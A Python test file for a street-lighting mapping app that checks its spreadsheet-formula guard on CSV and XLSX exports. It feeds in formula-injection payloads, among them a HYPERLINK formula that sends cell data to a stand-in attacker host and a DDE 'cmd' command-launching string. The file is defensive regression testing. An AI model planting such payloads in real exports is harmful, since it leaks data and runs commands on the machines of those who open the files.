"""Issue #11, finding 11: a cell like ``a;=1+1`` escaped the spreadsheet-formula guard.

The guard looked only at the start of a cell. A spreadsheet in a semicolon locale (German, French, Dutch Excel and
LibreOffice) splits a CSV line at ``;`` whatever its quotes say, so ``a;=1+1`` became two cells, ``a`` and a live
``=1+1``; a paste splits at tabs, "text to columns" at commas. Now one guard
(:func:`mapper.export.tabular.spreadsheet_safe`) neutralises every piece that could begin a cell, and every CSV and
XLSX writer uses it.

Each payload goes in through the public API as a resident's description, and comes out through the real downloads:
the layer's CSV (anyone), the officers' work list as CSV and XLSX, and a walk's title through the WKT CSV of a line
layer. Every cell is read back with ``csv`` and ``openpyxl`` and split as a spreadsheet might.
"""

import csv
import io
import re

import openpyxl
import pytest

from mapper import create_app
from mapper.accounts import Accounts
from mapper.export.tabular import spreadsheet_safe
from tests.gpx_helpers import ZONE as WALK_ZONE
from tests.gpx_helpers import shifted_into

ZONE = "bell-foundry"
PAYLOADS = [
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "a;=1+1",
    "a,=1+1",
    "a\t=1+1",
    "a; =1+1",  # a space after the separator: spreadsheets skip it
    "a\n=1+1",  # a line break: an unhonoured quote lets it end the row
    "\uff1d1+1",  # fullwidth =
    "a;\uff0b1",  # fullwidth + after a semicolon
    '=HYPERLINK("http://attacker.example/?"&A1,"Click for details")',
    "ok;=cmd|' /C calc'!A0",
]
# What a spreadsheet may run when a cell, or a piece of one, starts with it (after spaces).
STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
SPLIT = re.compile(r"[;,\t\r\n]")
# Numbers, and the coordinates of WKT pieces (" -1.35 52.74))"): a spreadsheet reads them as numbers or not at all.
NUMBER = re.compile(r"^[\s(]*-?\d+(\.\d+)?([eE][-+]?\d+)?(\s+-?\d+(\.\d+)?)*[\s)]*$")
PASSWORD = "correct horse battery"


def live_piece(cell):
    """The piece of ``cell`` a spreadsheet would run as a formula, or None."""
    for piece in [cell, *SPLIT.split(cell)[1:]]:
        if NUMBER.match(piece):
            continue
        if piece.startswith(STARTS) or piece.lstrip().startswith(STARTS):
            return piece
    return None


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_guard_leaves_no_piece_that_starts_a_formula(payload):
    guarded = spreadsheet_safe(payload)
    assert live_piece(guarded) is None, (payload, guarded)
    assert guarded.replace("'", "") == payload.replace("'", "")  # only apostrophes added: the text is all there


@pytest.mark.parametrize("text", ["Light out by the shop", "Out since Monday; dark all evening", "3,000 lumens",
                                  "", "'quoted'"])
def test_ordinary_text_is_left_alone(text):
    assert spreadsheet_safe(text) == text


@pytest.fixture
def app(data_dir):
    # Fifteen reports from one address in a minute are what this test needs, not what the rate limits are about.
    return create_app({"DATA_DIR": data_dir, "TESTING": True, "RATELIMIT_ENABLED": False})


@pytest.fixture
def world(app, data_dir):
    """Every payload as a lighting report's description, an officer's bearer token, and a walk with a hostile title."""
    client = app.test_client()
    stored = {}
    for number, payload in enumerate(PAYLOADS):
        body = {"type": "Feature", "geometry": {"type": "Point", "coordinates": [-1.195 + number * 1e-4, 52.77]},
                "properties": {"category": "out", "description": payload}}
        response = client.post("/api/reports", json=body)
        assert response.status_code == 201, response.json
        stored[payload] = response.json["properties"]["description"]  # as the validator keeps it (tabs trimmed)
    accounts = Accounts(data_dir)
    accounts.add("officer", "officer", [ZONE, WALK_ZONE], PASSWORD)
    client.environ_base["HTTP_AUTHORIZATION"] = f"Bearer {accounts.new_token('officer')}"
    walk = client.post(f"/api/zones/{WALK_ZONE}/audits", content_type="multipart/form-data",
                       data={"file": (io.BytesIO(shifted_into("Mojstrovka.gpx")), "walk.gpx"), "title": "a;=1+1"})
    assert walk.status_code == 201, walk.json
    return client, stored


def csv_cells(data):
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]


def xlsx_cells(data):
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value  # never a formula cell
                if isinstance(cell.value, str):
                    cells.append(cell.value)
    return cells


DOWNLOADS = {
    "layer.csv": (f"/api/zones/{ZONE}/lights.csv", csv_cells),
    "worklist.csv": (f"/zones/{ZONE}/repairs/worklist.csv", csv_cells),
    "worklist.xlsx": (f"/zones/{ZONE}/repairs/worklist.xlsx", xlsx_cells),
    "worklist-personal.xlsx": (f"/zones/{ZONE}/repairs/worklist.xlsx?personal=1", xlsx_cells),
    "audits.csv": (f"/api/zones/{WALK_ZONE}/audits.csv", csv_cells),  # a line layer: WKT CSV
}


@pytest.mark.parametrize("download", DOWNLOADS)
def test_no_cell_of_a_download_starts_a_formula_in_any_piece(world, download):
    client, stored = world
    url, read = DOWNLOADS[download]
    response = client.get(url)
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    cells = read(response.get_data())
    live = [(cell, live_piece(cell)) for cell in cells if live_piece(cell) is not None]
    assert not live, live
    # The payloads are really in the file (with apostrophes added), so the check above read them.
    texts = {cell.replace("'", "") for cell in cells}
    expected = ["a;=1+1"] if download == "audits.csv" else [text.replace("'", "") for text in stored.values()]
    missing = [text for text in expected if text not in texts]
    assert not missing, missing
